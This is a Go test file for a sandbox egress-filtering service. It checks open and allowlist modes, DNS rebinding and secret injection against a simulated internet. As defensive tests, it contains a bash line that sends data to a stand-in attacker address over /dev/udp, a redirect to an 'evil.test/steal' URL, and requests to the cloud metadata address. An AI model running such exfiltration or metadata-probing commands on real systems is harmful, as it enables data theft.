package network

import (
	"context"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	goruntime "runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/berthsh/berth/api"
	"github.com/berthsh/berth/internal/testnet"
	"github.com/berthsh/berth/internal/testutil"
	"github.com/berthsh/berth/internal/tun"
	"github.com/berthsh/berth/runtime"
)

// These tests run the network of a stand-in sandbox: a network namespace
// the test makes, with the link's TUN device, where curl runs (ip netns
// exec), against the test's own internet (testnet). The e2e tests run the
// same attacks from real sandboxes through the daemon.

var (
	webAddr  = netip.MustParseAddr("203.0.113.10")
	apiAddr  = netip.MustParseAddr("203.0.113.11")
	evilAddr = netip.MustParseAddr("203.0.113.66")
	dnsAddr  = netip.MustParseAddrPort("203.0.113.53:53")
)

const canary = "sk-canary-5f0c7e1d9a2b4c6e8f"

// world is a test internet and a stand-in sandbox attached to it.
type world struct {
	inet    *testnet.Net
	ns      string // the sandbox's namespace name
	sb      *Sandbox
	ca      *CA
	bundle  string // trust file for curl: the test CA and the sandbox's CA
	evil    *testnet.Capture
	gotAuth chan string

	mu      sync.Mutex
	records []api.EgressRecord
}

// newWorld makes a test internet and a sandbox attached to it under
// policy n; it takes a testing.TB because the benchmarks use it too. deny
// are the daemon's own listeners (Config.DenyAddrs).
func newWorld(t testing.TB, n api.Network, deny ...netip.AddrPort) *world {
	t.Helper()
	return newWorldBefore(t, n, nil, deny...)
}

// newWorldBefore is newWorld with before run in the sandbox's namespace
// after its link exists and before the network is attached to it.
func newWorldBefore(t testing.TB, n api.Network, before func(w *world), deny ...netip.AddrPort) *world {
	t.Helper()
	testutil.RequireRoot(t)
	w := &world{inet: testnet.New(t), gotAuth: make(chan string, 16)}
	w.inet.SetRecord("web.test", webAddr)
	w.inet.SetRecord("api.test", apiAddr)
	w.inet.SetRecord("evil.test", evilAddr)
	w.inet.ServeDNS(t, dnsAddr)
	w.inet.ServeHTTP(t, netip.AddrPortFrom(webAddr, 80), http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(rw, "web %s %s\n", r.Host, r.URL.Path)
	}))
	echo := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		select {
		case w.gotAuth <- r.Header.Get("Authorization") + "|" + r.Header.Get("X-Api-Key"):
		default:
		}
		if r.URL.Path == "/redirect" {
			http.Redirect(rw, r, "http://evil.test/steal", http.StatusFound)
			return
		}
		rw.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		json.NewEncoder(rw).Encode(map[string]any{"host": r.Host, "headers": r.Header})
	})
	w.inet.ServeHTTPS(t, netip.AddrPortFrom(apiAddr, 443), []string{"api.test"}, echo)
	w.inet.ServeHTTPS(t, netip.AddrPortFrom(webAddr, 443), []string{"web.test"}, echo)
	w.evil = w.inet.Attacker(t, evilAddr, 80, 443, 53)

	up, err := NewNamespaceUpstream(w.inet.Path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { up.Close() })
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(w.inet.CAPEM)
	svc, err := NewService(Config{Upstream: up, Resolvers: []netip.AddrPort{dnsAddr}, RootCAs: func() *x509.CertPool { return roots }, DenyAddrs: deny,
		Secret: func(_ context.Context, tenant, name string) (string, error) {
			if name == "openai" {
				return canary, nil
			}
			return "", fmt.Errorf("no secret %q", name)
		},
		Record: func(_ string, rec api.EgressRecord) {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.records = append(w.records, rec)
		}})
	if err != nil {
		t.Fatal(err)
	}
	if why := svc.Available(); why != "" {
		t.Fatal(why)
	}

	var b [4]byte
	rand.Read(b[:])
	w.ns = fmt.Sprintf("berth-sb-%x", b)
	if out, err := exec.Command("ip", "netns", "add", w.ns).CombinedOutput(); err != nil {
		t.Fatalf("ip netns add: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("ip", "netns", "del", w.ns).Run(); os.RemoveAll("/etc/netns/" + w.ns) })
	exec.Command("ip", "-n", w.ns, "link", "set", "lo", "up").Run()
	// ip netns exec binds this over /etc/resolv.conf for what it runs.
	os.MkdirAll("/etc/netns/"+w.ns, 0o755)
	os.WriteFile("/etc/netns/"+w.ns+"/resolv.conf", []byte("nameserver "+Gateway.String()+"\n"), 0o644)
	l := Link()
	f, err := tun.Create("/run/netns/"+w.ns, "eth0", l.Address, l.Gateway, l.MTU)
	if err != nil {
		t.Fatal(err)
	}
	w.ca, err = NewCA("test")
	if err != nil {
		t.Fatal(err)
	}
	w.bundle = filepath.Join(t.TempDir(), "bundle.pem")
	os.WriteFile(w.bundle, append(append([]byte(nil), w.inet.CAPEM...), w.ca.CertPEM()...), 0o644)
	p, err := Compile(n)
	if err != nil {
		t.Fatal(err)
	}
	if before != nil {
		before(w)
	}
	w.sb, err = svc.Attach("sb-test", "", &runtime.Link{File: f, MTU: l.MTU}, p, w.ca)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(w.sb.Close)
	return w
}

// curl runs curl in the sandbox's namespace; it returns stdout and curl's
// exit code (6: name not resolved, 7: connection refused, 22: HTTP error).
func (w *world) curl(t *testing.T, args ...string) (string, int) {
	t.Helper()
	testutil.RequireProgram(t, "curl")
	cmd := exec.Command("ip", append([]string{"netns", "exec", w.ns, "curl", "-sS", "--max-time", "10", "--cacert", w.bundle}, args...)...)
	out, err := cmd.Output()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return string(out), code
}

func (w *world) find(match func(api.EgressRecord) bool) (api.EgressRecord, bool) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for i := len(w.records) - 1; i >= 0; i-- {
		if match(w.records[i]) {
			return w.records[i], true
		}
	}
	return api.EgressRecord{}, false
}

// wantRecord waits for a record that match accepts (records of a
// connection come when it ends).
func (w *world) wantRecord(t *testing.T, what string, match func(api.EgressRecord) bool) api.EgressRecord {
	t.Helper()
	var rec api.EgressRecord
	err := testnet.WaitFor(t.Context(), 5*time.Second, func() bool {
		var ok bool
		rec, ok = w.find(match)
		return ok
	})
	if err != nil {
		w.mu.Lock()
		t.Fatalf("no record of %s; records: %+v", what, w.records)
	}
	return rec
}

func TestOpenMode(t *testing.T) {
	w := newWorld(t, api.Network{Mode: api.NetworkOpen})
	if out, code := w.curl(t, "http://web.test/hello"); code != 0 || out != "web web.test /hello\n" {
		t.Fatalf("http in open mode: %q exit %d", out, code)
	}
	w.wantRecord(t, "the DNS query", func(r api.EgressRecord) bool { return r.Proto == api.EgressDNS && r.Name == "web.test" && r.Allowed })
	w.wantRecord(t, "the request", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressHTTP && r.Name == "web.test" && r.Status == 200 && r.Method == "GET" && r.Path == "/hello" && r.Allowed
	})
	if out, code := w.curl(t, "https://web.test/"); code != 0 || !strings.Contains(out, `"host":"web.test"`) {
		t.Fatalf("https in open mode: %q exit %d", out, code)
	}
	w.wantRecord(t, "the TLS connection", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressTLS && r.Name == "web.test" && r.Allowed && r.BytesIn > 0
	})
	// Special ranges stay closed in open mode.
	for _, target := range []string{"http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:7680/v1/sandboxes",
		"http://10.0.0.1/", "http://[::ffff:169.254.169.254]/", "http://100.64.0.1:80/"} {
		if _, code := w.curl(t, target); code == 0 {
			t.Errorf("open mode reached %s", target)
		}
	}
	w.wantRecord(t, "the metadata address refused", func(r api.EgressRecord) bool {
		return r.Addr == "169.254.169.254" && !r.Allowed && strings.Contains(r.Rule, "link-local")
	})
}

// TestPacketsBeforeAttach: what the sandbox sent before its network was
// attached (packets queued on the link while no daemon read it, as across
// a daemon's restart) meets the gateway's services listening: a DNS query
// is answered, not taken for a flow to another resolver and denied.
func TestPacketsBeforeAttach(t *testing.T) {
	var c *net.UDPConn
	w := newWorldBefore(t, api.Network{Mode: api.NetworkOpen}, func(w *world) {
		c = udpInNamespace(t, "/run/netns/"+w.ns)
		for id := range uint16(8) {
			if _, err := c.WriteToUDPAddrPort(dnsQuery(id, "web.test"), netip.AddrPortFrom(Gateway, 53)); err != nil {
				t.Fatal(err)
			}
		}
	})
	defer c.Close()
	got := map[uint16]bool{}
	buf := make([]byte, 1500)
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	for len(got) < 8 {
		n, err := c.Read(buf)
		if err != nil {
			w.mu.Lock()
			defer w.mu.Unlock()
			t.Fatalf("answers to %d of 8 queries sent before the attach (%v); records: %+v", len(got), err, w.records)
		}
		if n >= 12 {
			got[uint16(buf[0])<<8|uint16(buf[1])] = true
		}
	}
	if _, denied := w.find(func(r api.EgressRecord) bool { return !r.Allowed }); denied {
		t.Fatalf("a query sent before the attach was denied: %+v", w.records)
	}
}

// udpInNamespace opens a UDP socket in the network namespace at path.
func udpInNamespace(t testing.TB, path string) *net.UDPConn {
	t.Helper()
	type result struct {
		c   *net.UDPConn
		err error
	}
	done := make(chan result, 1)
	go func() {
		// The thread ends in the namespace (never unlocked): nothing else
		// runs on it.
		goruntime.LockOSThread()
		ns, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			done <- result{err: err}
			return
		}
		defer unix.Close(ns)
		if err := unix.Setns(ns, unix.CLONE_NEWNET); err != nil {
			done <- result{err: err}
			return
		}
		c, err := net.ListenUDP("udp4", nil)
		done <- result{c, err}
	}()
	r := <-done
	if r.err != nil {
		t.Fatal(r.err)
	}
	return r.c
}

// dnsQuery is a DNS query of id for name's A record.
func dnsQuery(id uint16, name string) []byte {
	q := []byte{byte(id >> 8), byte(id), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(name, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// TestSourcePortReusedAtOnce: a sandbox that opens a connection again from
// the source port of one the daemon's side just closed (the server said
// Connection: close) is answered at once, as Linux answers a SYN on a
// TIME-WAIT socket. The stack's side used to sit in TIME-WAIT for 60 s,
// and gVisor's netstack hands a SYN in TIME-WAIT only to a listener, not
// to the forwarder: every SYN was dropped, and the connect hung.
func TestSourcePortReusedAtOnce(t *testing.T) {
	w := newWorld(t, api.Network{Mode: api.NetworkOpen})
	testutil.RequireProgram(t, "python3")
	const script = `
import socket, sys, time
for i in range(3):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", 40000))
    s.settimeout(5)
    t0 = time.monotonic()
    try:
        s.connect(("203.0.113.10", 80))
    except OSError as e:
        sys.exit(f"connect {i} from port 40000: {e!r} after {time.monotonic() - t0:.1f} s")
    s.sendall(b"GET /again HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n")
    got = b""
    while chunk := s.recv(4096):
        got += chunk
    s.close()
    if not got.startswith(b"HTTP/1.1 200"):
        sys.exit(f"answer {i}: {got[:80]!r}")
    print(f"{time.monotonic() - t0:.3f}")
    time.sleep(0.2)
`
	out, err := exec.Command("ip", "netns", "exec", w.ns, "python3", "-c", script).CombinedOutput()
	if err != nil {
		t.Fatalf("connections from one source port: %v\n%s", err, out)
	}
	if n := len(strings.Fields(string(out))); n != 3 {
		t.Fatalf("want 3 answers, got %q", out)
	}
}

func TestAllowlist(t *testing.T) {
	w := newWorld(t, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test"}})
	if out, code := w.curl(t, "http://web.test/"); code != 0 || out != "web web.test /\n" {
		t.Fatalf("an allowed name: %q exit %d", out, code)
	}
	if _, code := w.curl(t, "http://evil.test/"); code != 6 {
		t.Fatalf("a name not allowed: exit %d, want 6 (not resolved)", code)
	}
	w.wantRecord(t, "the refused query", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressDNS && r.Name == "evil.test" && !r.Allowed && r.Rule == "not in the allowlist"
	})
	if len(w.inet.Queries()) == 0 || strings.Contains(strings.Join(w.inet.Queries(), " "), "evil.test") {
		t.Fatalf("upstream queries %v: a refused name must not leave the host", w.inet.Queries())
	}
	// An address no allowed name resolved to.
	if _, code := w.curl(t, "http://203.0.113.66/"); code != 7 {
		t.Fatalf("an address literal: exit %d, want 7 (refused)", code)
	}
	// An allowed name sent to another address (curl --resolve skips DNS).
	if _, code := w.curl(t, "--resolve", "web.test:80:203.0.113.66", "http://web.test/"); code != 7 {
		t.Fatalf("an allowed name at the attacker's address: exit %d, want 7", code)
	}
	// The allowed address with a Host it does not serve for this sandbox.
	if out, code := w.curl(t, "-H", "Host: evil.test", "-w", "%{http_code}", "-o", "/dev/null", "http://web.test/"); out != "403" {
		t.Fatalf("another Host at an allowed address: %q exit %d, want 403", out, code)
	}
	w.wantRecord(t, "the spoofed Host", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressHTTP && r.Name == "evil.test" && !r.Allowed
	})
	// TLS: an allowed server name at an address it did not resolve to.
	if _, code := w.curl(t, "--resolve", "web.test:443:203.0.113.66", "https://web.test/"); code == 0 {
		t.Fatal("an allowed SNI at the attacker's address went through")
	}
	// UDP out of allowlist mode: DNS to another resolver, and anything else.
	exec.Command("ip", "netns", "exec", w.ns, "bash", "-c", "echo exfil > /dev/udp/203.0.113.66/53; echo exfil > /dev/udp/203.0.113.66/443").Run()
	w.wantRecord(t, "the refused UDP", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressUDP && r.Addr == "203.0.113.66" && r.Port == 53 && !r.Allowed
	})
	time.Sleep(200 * time.Millisecond)
	if w.evil.Hits() != 0 {
		t.Fatalf("the attacker got %d connections or datagrams: %q", w.evil.Hits(), w.evil.Bytes())
	}
}

// TestDaemonListenersStayClosed: the daemon's own listeners are refused
// even where an allow CIDR covers their address (a daemon serving on a
// public address, --insecure-remote-api).
func TestDaemonListenersStayClosed(t *testing.T) {
	daemon := netip.AddrPortFrom(webAddr, 80)
	w := newWorld(t, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"203.0.113.0/24"}}, daemon)
	if _, code := w.curl(t, "http://203.0.113.10/"); code != 7 {
		t.Fatalf("the daemon's listener: curl exit %d, want 7 (refused)", code)
	}
	w.wantRecord(t, "the refused listener", func(r api.EgressRecord) bool {
		return r.Addr == webAddr.String() && r.Port == 80 && !r.Allowed && r.Rule == "the daemon's own listener"
	})
	// The same address on another port is what the CIDR allows.
	if _, code := w.curl(t, "-o", "/dev/null", "-k", "https://203.0.113.10/"); code != 0 {
		t.Fatalf("another port of the same address: curl exit %d", code)
	}
}

func TestDNSRebinding(t *testing.T) {
	w := newWorld(t, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"rebind.test"}})
	w.inet.SetRecord("rebind.test", webAddr)
	if out, code := w.curl(t, "http://rebind.test/"); code != 0 || out != "web rebind.test /\n" {
		t.Fatalf("first answer: %q %d", out, code)
	}
	// 127.0.0.1 is the sandbox's own loopback: it never leaves.
	for _, inner := range []string{"127.0.0.1", "10.0.0.5", "169.254.169.254", "100.64.0.1"} {
		w.inet.SetRecord("rebind.test", netip.MustParseAddr(inner))
		if _, code := w.curl(t, "http://rebind.test/"); code == 0 {
			t.Errorf("rebound to %s: reached", inner)
		}
		if inner != "127.0.0.1" {
			w.wantRecord(t, "the rebound address refused", func(r api.EgressRecord) bool { return r.Addr == inner && !r.Allowed })
		}
	}
}

func TestSecretInjection(t *testing.T) {
	w := newWorld(t, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test"},
		Secrets: []api.SecretBinding{
			{Secret: "openai", Host: "api.test", Header: "Authorization", Format: "Bearer {secret}"},
			{Secret: "openai", Host: "api.test", Env: "OPENAI_API_KEY", Placeholder: "berth-ph-0123456789abcdef"},
		}})
	out, code := w.curl(t, "-i", "-H", "X-Api-Key: berth-ph-0123456789abcdef", "https://api.test/v1/models")
	if code != 0 {
		t.Fatalf("https to the bound host: exit %d %q", code, out)
	}
	if got := <-w.gotAuth; got != "Bearer "+canary+"|"+canary {
		t.Fatalf("the upstream got %q, want the secret in both headers", got)
	}
	if strings.Contains(out, canary) || !strings.Contains(out, "Bearer "+strings.Repeat("*", len(canary))) {
		t.Fatalf("the echoed secret reached the sandbox, or was not masked: %s", out)
	}
	w.wantRecord(t, "the injected request", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressHTTPS && r.Name == "api.test" && r.Secret == "openai,openai" && r.Status == 200
	})
	// A redirect to the attacker: curl follows it, the secret does not.
	w.curl(t, "-L", "-H", "Authorization: Bearer berth-ph-0123456789abcdef", "https://api.test/redirect")
	<-w.gotAuth
	time.Sleep(200 * time.Millisecond)
	if strings.Contains(string(w.evil.Bytes()), canary) || w.evil.Hits() != 0 {
		t.Fatalf("the attacker got %q", w.evil.Bytes())
	}
	// Another Host through the terminated connection.
	if out, _ := w.curl(t, "-H", "Host: web.test", "-o", "/dev/null", "-w", "%{http_code}", "https://api.test/"); out != "421" {
		t.Fatalf("a Host other than the TLS server name: %q, want 421", out)
	}
	// A host without a binding is not terminated: its own certificate.
	if out, code := w.curl(t, "-w", "%{ssl_verify_result}", "-o", "/dev/null", "https://web.test/"); code != 0 || out != "0" {
		t.Fatalf("https to an unbound host: %q %d", out, code)
	}
}
